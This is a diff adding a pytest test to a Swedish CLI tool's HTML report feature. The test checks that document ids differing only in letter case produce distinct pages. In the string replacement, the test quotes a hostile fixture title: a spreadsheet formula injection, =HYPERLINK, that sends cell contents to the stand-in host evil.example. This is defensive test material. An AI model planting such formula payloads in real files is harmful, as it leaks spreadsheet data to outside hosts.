@@ -177,3 +177,17 @@ def test_report_errors_are_clear_and_exit_2(cli, tmp_path, monkeypatch):
     assert run.err == ("styrcheck: styrcheck report behöver jinja2, som inte är installerat; installera det med\n"
                        "  pip install 'styrcheck[report]'\n")
     assert not (tmp_path / "site").exists()
+
+
+def test_ids_that_differ_only_in_case_get_pages_that_differ_in_more(cli, tmp_path):
+    """On Windows and macOS `Plan.html` and `plan.html` are one file: neither page may overwrite the other."""
+    root = tmp_path / "repo"
+    document = HOSTILE.replace("id: farlig", "id: {id}").replace("titel: '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klicka\")'",
+                                                             "titel: {title}")
+    write_files(root, {"a.yaml": document.format(id="Plan", title="Stor"), "b.yaml": document.format(id="plan", title="liten")})
+    site = tmp_path / "site"
+    assert cli("report", root, "-o", site, "--today", TODAY).code == 0
+    pages = sorted(p.name for p in (site / "dokument").iterdir())
+    assert len({name.lower() for name in pages}) == 2
+    titles = {lxml_html.fromstring(p.read_bytes()).findtext(".//h1") for p in (site / "dokument").iterdir()}
+    assert titles == {"Stor", "liten"}
